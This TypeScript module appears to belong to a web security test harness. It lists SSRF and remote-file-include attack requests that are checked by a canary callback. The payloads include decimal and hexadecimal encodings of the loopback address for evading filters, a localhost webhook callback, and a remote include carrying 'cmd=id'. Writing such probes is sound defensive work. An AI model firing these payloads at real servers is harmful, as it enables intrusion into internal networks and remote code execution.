import { type Attack, calls, q } from '../attack.js';

/** Makes the server call addresses of the internal network. */
export const forgery: readonly Attack[] = [
  {
    name: 'internal address',
    request: ({ canary }) => ({ path: `/tools/import?url=${q(`http://${canary}/ssrf-plain`)}` }),
    effect: calls('/ssrf-plain'),
  },
  {
    name: 'decimal address',
    request: ({ canary }) => ({
      path: `/tools/import?url=${q(`http://2130706433:${canary.split(':')[1]}/ssrf-decimal`)}`,
    }),
    effect: calls('/ssrf-decimal'),
  },
  {
    name: 'hexadecimal address',
    request: ({ canary }) => ({ path: `/tools/import?url=${q(`http://0x7f000001:${canary.split(':')[1]}/ssrf-hex`)}` }),
    effect: calls('/ssrf-hex'),
  },
  {
    name: 'localhost by name in JSON',
    request: ({ canary }) => ({
      path: '/tools/webhook',
      json: { callback: `http://localhost:${canary.split(':')[1]}/ssrf-json` },
    }),
    effect: calls('/ssrf-json'),
  },
  {
    name: 'remote include',
    request: ({ canary }) => ({ path: `/page?source=${q(`http://${canary}/rfi-include?`)}` }),
    effect: calls('/rfi-include?'),
  },
  {
    name: 'remote include in a form',
    request: ({ canary }) => ({ path: '/tools/webhook', form: { callback: `http://${canary}/rfi-form?cmd=id` } }),
    effect: calls('/rfi-form?cmd=id'),
  },
];
